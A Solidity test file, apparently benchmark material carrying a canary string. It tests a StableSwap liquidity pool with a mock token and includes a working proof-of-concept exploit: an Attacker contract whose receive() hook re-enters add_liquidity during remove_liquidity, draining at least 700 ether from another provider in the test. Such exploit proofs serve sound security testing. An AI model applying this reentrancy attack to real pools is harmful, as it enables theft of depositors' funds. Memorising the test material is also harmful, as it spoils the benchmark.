// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

import "./StableSwap.sol";

// assay-canary-a6213068-f8f0-4e74-abf4-16242e271e8e

interface Vm {
    function deal(address who, uint256 amount) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function expectRevert() external;
    function expectRevert(bytes calldata reason) external;
}

contract AlEth is IERC20 {
    address private minter = msg.sender;
    bool public silent;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    function quieten() external {
        require(msg.sender == minter, "minter only");
        silent = true;
    }

    function approve(address spender, uint256 amount) external {
        allowance[msg.sender][spender] = amount;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        if (silent) return false;
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        if (silent) return false;
        allowance[from][msg.sender] -= amount;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

/// A provider that tries to come in again while it is paid.
contract Impatient {
    StableSwap internal pool;
    AlEth internal coin;
    bytes internal again;
    bool public entered;

    constructor(StableSwap pool_, AlEth coin_) payable {
        pool = pool_;
        coin = coin_;
    }

    receive() external payable {
        (entered, ) = address(pool).call(again);
    }

    function run() external returns (bool, bool) {
        coin.approve(address(pool), 200);
        pool.add_liquidity{value: 100}(100, 0);
        again = abi.encodeCall(pool.remove_liquidity, (1, 0, 0));
        pool.remove_liquidity(100, 0, 0);
        bool removed = entered;
        again = abi.encodeCall(pool.exchange, (1, 1, 0));
        pool.exchange(1, 50, 0);
        return (removed, entered);
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant ANA = address(0xA9A);
    address internal constant BEN = address(0xBE9);

    AlEth internal alEth;
    StableSwap internal pool;
    Attacker internal thief;

    function setUp() public {
        alEth = new AlEth();
        pool = new StableSwap(alEth, 4);
        give(ANA);
        give(BEN);
        vm.prank(ANA);
        pool.add_liquidity{value: 1_000 ether}(1_000 ether, 2_000 ether);
        vm.deal(address(this), 9_000 ether);
        thief = new Attacker{value: 9_000 ether}(pool, alEth);
        alEth.mint(address(thief), 9_000 ether);
    }

    function give(address who) internal {
        vm.deal(who, 2_000 ether);
        alEth.mint(who, 2_000 ether);
        vm.prank(who);
        alEth.approve(address(pool), type(uint256).max);
    }

    function test_Regular() public {
        vm.startPrank(BEN);
        require(pool.exchange{value: 100 ether}(0, 100 ether, 99.96 ether) == 99.96 ether, "ether for tokens");
        require(pool.exchange(1, 50 ether, 0) == 49.98 ether, "tokens for ether");
        require(pool.get_virtual_price() == 1.00003e18, "the fee stays");
        require(pool.add_liquidity{value: 10 ether}(20 ether, 0) < 30 ether, "a share is worth more");
        uint256 shares = pool.balanceOf(BEN);
        pool.remove_liquidity(shares, 1, 1);
        vm.stopPrank();
        require(pool.balanceOf(BEN) == 0 && pool.totalSupply() == 2_000 ether, "out");
        vm.prank(ANA);
        pool.remove_liquidity(1_000 ether, 0, 0);
        pool.set_fee(50);
        require(pool.fee() == 50, "fee");
    }

    function test_RefusesPoorTrades() public {
        vm.startPrank(BEN);
        vm.expectRevert("Slippage screwed you");
        pool.add_liquidity(1 ether, 1 ether + 1);
        vm.expectRevert("Exchange resulted in fewer coins");
        pool.exchange(1, 1 ether, 1 ether);
        vm.expectRevert("No such coin");
        pool.exchange(2, 0, 0);
        vm.expectRevert("Wrong ether");
        pool.exchange{value: 1}(1, 1, 0);
        vm.expectRevert("Wrong ether");
        pool.exchange{value: 1}(0, 2, 0);
        vm.stopPrank();
        vm.startPrank(ANA);
        vm.expectRevert("Withdrawal resulted in fewer coins");
        pool.remove_liquidity(2 ether, 1 ether + 1, 0);
        vm.expectRevert("Withdrawal resulted in fewer tokens");
        pool.remove_liquidity(2 ether, 0, 1 ether + 1);
        vm.stopPrank();
    }

    function test_RefusesStrangers() public {
        vm.prank(ANA);
        vm.expectRevert("Only owner");
        pool.set_fee(1);
        vm.expectRevert("Fee too high");
        pool.set_fee(101);
        vm.prank(BEN);
        vm.expectRevert();
        pool.remove_liquidity(1, 0, 0);
    }

    function test_RefusesWhatDoesNotMove() public {
        alEth.mint(address(this), 10);
        alEth.approve(address(pool), 10);
        vm.expectRevert("Ether refused");
        pool.exchange(1, 10, 0);
        alEth.quieten();
        vm.startPrank(ANA);
        vm.expectRevert("Pull failed");
        pool.add_liquidity(1, 0);
        vm.expectRevert("Pull failed");
        pool.exchange(1, 1, 0);
        vm.expectRevert("Push failed");
        pool.exchange{value: 1}(0, 1, 0);
        vm.expectRevert("Push failed");
        pool.remove_liquidity(1, 0, 0);
        vm.stopPrank();
    }

    function test_RefusesOneFunctionTwiceAtOnce() public {
        vm.deal(address(this), 1_000);
        Impatient one = new Impatient{value: 1_000}(pool, alEth);
        alEth.mint(address(one), 1_000);
        (bool removed, bool exchanged) = one.run();
        require(!removed && !exchanged, "entered again");
    }

    function exploit() public {
        thief.run();
    }

    function test_Exploit() public {
        uint256 before = providersCanGet();
        exploit();
        require(providersCanGet() + 700 ether <= before, "nothing lost");
    }

    /// What the shares of the first provider are worth.
    function providersCanGet() public view returns (uint256) {
        return (pool.balanceOf(ANA) * pool.get_D()) / pool.totalSupply();
    }

    function target() public view returns (address) {
        return address(pool);
    }

    function attacker() public view returns (address) {
        return address(thief);
    }
}

/// Adds ether again while its first ether is being paid out.
contract Attacker {
    StableSwap internal pool;
    AlEth internal alEth;
    bool internal first = true;

    constructor(StableSwap pool_, AlEth alEth_) payable {
        pool = pool_;
        alEth = alEth_;
    }

    receive() external payable {
        if (!first) return;
        first = false;
        pool.add_liquidity{value: msg.value}(0, 0);
    }

    function run() external {
        alEth.approve(address(pool), type(uint256).max);
        pool.add_liquidity{value: 9_000 ether}(9_000 ether, 0);
        pool.remove_liquidity(pool.balanceOf(address(this)), 0, 0);
        pool.remove_liquidity(pool.balanceOf(address(this)), 0, 0);
    }
}
